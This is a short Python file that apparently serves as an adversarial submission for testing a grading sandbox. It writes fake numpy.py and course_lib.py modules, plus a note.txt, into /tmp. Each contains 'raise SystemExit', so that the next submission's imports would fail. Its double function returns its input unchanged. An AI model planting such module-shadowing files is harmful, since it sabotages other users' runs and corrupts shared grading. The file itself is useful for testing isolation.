"""Leaves files in /tmp that the next submission would import or read."""
for name in "numpy.py", "course_lib.py", "note.txt":
    with open(f"/tmp/{name}", "w") as file:
        file.write("raise SystemExit\n")


def double(x):
    return x
